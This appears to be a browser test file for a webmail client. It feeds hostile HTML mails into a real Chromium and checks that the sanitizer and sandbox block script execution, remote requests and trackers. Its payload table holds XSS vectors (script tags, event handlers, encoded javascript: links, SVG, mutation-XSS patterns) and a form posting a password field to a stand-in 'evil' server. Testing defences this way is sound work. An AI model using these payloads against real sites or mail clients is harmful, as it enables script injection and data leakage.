/**
 * Hostile HTML opened in a real Chromium through the message page. Every
 * payload tries to set a planted global (`window.__pwned`, in the page or
 * its frame) and to fetch from a second server on another port (a host
 * other than the app) that counts every hit. Neither may happen, and the
 * page must stay usable; then "load remote content" lets the one remote
 * image through, and only https.
 */
import { afterAll, describe, expect, test } from "bun:test";
import type { Frame, Page } from "playwright-core";
import { t } from "../../src/i18n/messages.ts";
import { closeParsePool } from "../../src/mail/parse/parse-message.ts";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { browser, openPage, REMOTE_TEST_HOST, SCREENSHOT_DIR, submit, withPage } from "../support/browser.ts";
import { serveTestApp } from "../support/test-app.ts";
import { tempDir } from "../support/temp.ts";
import { makeSelfSignedCertificate } from "../support/tls.ts";
import { htmlMail, seedMailbox } from "../mail/render/seed.ts";

const { services, baseUrl, close } = await serveTestApp();

/** The "other host": every request it gets is a failure of the sandbox, unless remote content was allowed. */
const hits: string[] = [];
const record = (request: Request) => {
  hits.push(new URL(request.url).pathname);
  return new Response(new Uint8Array(Buffer.from("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==", "base64")), { headers: { "Content-Type": "image/gif" } });
};
const plain = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: record });
const certificate = makeSelfSignedCertificate(tempDir("remote-tls"));
const secure = Bun.serve({ hostname: "127.0.0.1", port: 0, tls: { cert: Bun.file(certificate.certFile), key: Bun.file(certificate.keyFile) }, fetch: record });
const EVIL = `http://127.0.0.1:${plain.port}`;
const EVIL_TLS = `https://127.0.0.1:${secure.port}`;
/** The same server under a name that passes the outbound policy (Chromium maps it to 127.0.0.1). */
const REMOTE_TLS = `https://${REMOTE_TEST_HOST}:${secure.port}`;

afterAll(async () => {
  await plain.stop(true);
  await secure.stop(true);
  await closeParsePool();
  await close();
});

const PWN = "window.__pwned=1;try{parent.__pwned=1;top.__pwned=1}catch(e){}";

/** Each one tries to run `PWN` and to reach the other host. */
const PAYLOADS: Record<string, string> = {
  "script tags": `<p>Hallo</p><script>${PWN}</script><script src="${EVIL}/script.js"></script><SCRIPT>${PWN}</SCRIPT>`,
  "event handlers": `<img src="x" onerror="${PWN}"><body onload="${PWN}"><p onmouseover="${PWN}" style="padding:2em">hover me</p><details open ontoggle="${PWN}"><summary>x</summary></details>`,
  "javascript: links": `<a id="js" href="javascript:${PWN}">click</a> <a href="jav&#x61;script:${PWN}">encoded</a> <a href="  JaVaScRiPt:${PWN}">spaced</a>`,
  "SVG with script and animate": `<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><script>${PWN}</script><animate onbegin="${PWN}" attributeName="x" dur="1s"/><image href="${EVIL}/svg-image.png"/><set attributeName="onload" to="${PWN}"/></svg>`,
  "CSS url() and @import": `<style>@import url("${EVIL}/import.css"); body { background: url("${EVIL}/style-bg.png"); } @font-face { font-family: x; src: url("${EVIL}/font.woff"); }</style><div style="background-image:url('${EVIL}/inline-bg.png');font-family:x">styled</div><link rel="stylesheet" href="${EVIL}/link.css">`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><p>wait</p>`,
  forms: `<form action="${EVIL}/form" method="post"><input name="password" value="secret"><button id="send" type="submit">Send</button></form><form action="javascript:${PWN}"><input type="submit" value="go"></form>`,
  "nested iframes": `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>${PWN.replaceAll('"', "&quot;")}</script><img src='${EVIL}/srcdoc.png'>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  "mXSS patterns": `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=${PWN}></style></mglyph></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
  "tracking pixels": `<p>News</p><img src="${EVIL}/pixel.gif" width="1" height="1"><img src="${EVIL_TLS}/track/open.php?u=1"><img src="${EVIL_TLS}/hidden.png" style="display:none">`,
  "remote images and base": `<base href="${EVIL}/"><img src="${EVIL_TLS}/remote.png" alt="Logo"><img src="${EVIL}/plain.png"><img srcset="${EVIL}/srcset.png 2x"><table background="${EVIL}/table-bg.png"><tr><td>t</td></tr></table><video src="${EVIL}/v.mp4" poster="${EVIL}/poster.png"></video><audio src="${EVIL}/a.mp3"></audio>`,
};

const box = await seedMailbox(services);
const ids = new Map<string, string>();
for (const [name, html] of Object.entries(PAYLOADS)) ids.set(name, await box.store(htmlMail({ subject: `Hostile: ${name}`, from: "Mallory <mallory@evil.example>", html })));

const pwned = (target: Page | Frame) => target.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);

async function bodyFrame(page: Page): Promise<Frame> {
  const handle = await page.waitForSelector("iframe.mh-frame");
  const frame = (await handle.contentFrame())!;
  await frame.waitForLoadState("load");
  return frame;
}

describe("hostile HTML in Chromium", () => {
  for (const name of Object.keys(PAYLOADS)) {
    test(name, async () => {
      hits.length = 0;
      await withPage(baseUrl, { lang: "en", cookie: box.user.cookie }, async (watched) => {
        const { page } = watched;
        const response = await page.goto(`${baseUrl}/messages/${ids.get(name)}`);
        expect(response!.status()).toBe(200);
        const frame = await bodyFrame(page);
        // Give a meta refresh, an animation or a lazy load the chance to fire.
        await page.locator("iframe.mh-frame").hover();
        await page.waitForTimeout(300);
        // Links in the mail: a javascript: one has lost its target, so clicking it does nothing.
        for (const link of await frame.locator("a").all()) expect((await link.getAttribute("href")) ?? "").not.toMatch(/script:/i);
        if (name === "javascript: links") await frame.locator("a").first().click();
        expect(await pwned(page)).toBeUndefined();
        expect(await pwned(frame)).toBeUndefined();
        expect(frame.url()).toBe(`${baseUrl}/messages/${ids.get(name)}/body`);
        expect(await frame.locator("script, iframe, object, embed, form, svg, math, style:not(head style), meta[http-equiv], base, link").count()).toBe(0);
        await watched.screenshot(`hostile-${name.replaceAll(/[^a-z]+/gi, "-")}`);
        // Still usable: the page's own form works.
        await submit(page, page.getByRole("button", { name: t("en", "message.action.done"), exact: true }));
        expect(await page.locator(".notice span").textContent()).toBe(t("en", "message.notice.done"));
        await submit(page, page.getByRole("button", { name: t("en", "message.action.notDone"), exact: true }));
      });
      // withPage checked that no request left for another origin; the other host agrees.
      expect(hits).toEqual([]);
    });
  }

  test("load remote content lets remote images through (over https) for this view only; trackers and loopback stay out", async () => {
    const html = `<p>Offer</p><img src="${REMOTE_TLS}/remote.png" alt="Logo"><img src="${REMOTE_TLS}/pixel.gif" width="1" height="1"><img src="http://${REMOTE_TEST_HOST}:${secure.port}/upgraded.png" alt="upgraded"><table background="${EVIL_TLS}/loopback.png"><tr><td>t</td></tr></table>`;
    const id = await box.store(htmlMail({ subject: "Remote image", from: "Shop <shop@example.com>", html }));
    // The remote server's certificate is self-signed: a context that accepts it, as a real https host would be accepted.
    const context = await (await browser()).newContext({ locale: "en-GB", ignoreHTTPSErrors: true });
    const [name = "", value = ""] = box.user.cookie.split("=");
    await context.addCookies([{ name, value, url: baseUrl }]);
    const page = await context.newPage();
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    try {
      hits.length = 0;
      await page.goto(`${baseUrl}/messages/${id}`);
      await bodyFrame(page);
      expect(hits).toEqual([]);
      expect(await page.locator("#remote-content").textContent()).toContain(t("en", "message.remote.blocked", { count: "3" }));

      await page.getByRole("link", { name: t("en", "message.remote.load"), exact: true }).click();
      await page.waitForURL(`${baseUrl}/messages/${id}?remote=1`);
      const frame = await bodyFrame(page);
      for (const image of await frame.locator("img").all())
        await image.evaluate((element: HTMLImageElement) => element.complete || new Promise((resolve) => (element.onload = element.onerror = resolve)));
      // The http image was upgraded to https; the tracking pixel and the background on 127.0.0.1 (the outbound policy) stayed out.
      expect(hits.sort()).toEqual(["/remote.png", "/upgraded.png"]);
      expect(requests.filter((url) => !url.startsWith(baseUrl)).sort()).toEqual([`${REMOTE_TLS}/remote.png`, `${REMOTE_TLS}/upgraded.png`]);
      expect(await pwned(frame)).toBeUndefined();
      mkdirSync(SCREENSHOT_DIR, { recursive: true });
      await page.screenshot({ path: join(SCREENSHOT_DIR, "hostile-remote-loaded.png"), fullPage: true });

      // Opened again without the flag: blocked again (a GET stored nothing).
      hits.length = 0;
      await page.goto(`${baseUrl}/messages/${id}`);
      await bodyFrame(page);
      expect(hits).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test("the body opened on its own (a new tab) is still sandboxed: no script, no origin of ours", async () => {
    const watched = await openPage({ locale: "en-GB", cookie: { url: baseUrl, value: box.user.cookie } });
    try {
      hits.length = 0;
      await watched.page.goto(`${baseUrl}/messages/${ids.get("script tags")}/body`);
      expect(await pwned(watched.page)).toBeUndefined();
      expect(await watched.page.evaluate(() => window.origin)).toBe("null");
      expect(hits).toEqual([]);
    } finally {
      await watched.close();
    }
  });
});
